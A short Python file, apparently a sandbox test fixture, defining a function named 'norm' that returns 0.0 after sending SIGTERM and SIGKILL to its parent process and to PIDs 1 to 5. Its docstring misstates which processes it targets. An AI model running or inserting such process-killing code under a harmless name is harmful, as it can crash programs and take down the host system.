"""Kills its parent process, and that one's parent."""
# %% norm
import os
import signal


def norm(v):
    confined()
    for process in (os.getppid(), 1, 2, 3, 4, 5):
        if process != os.getpid():
            for number in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
    return 0.0
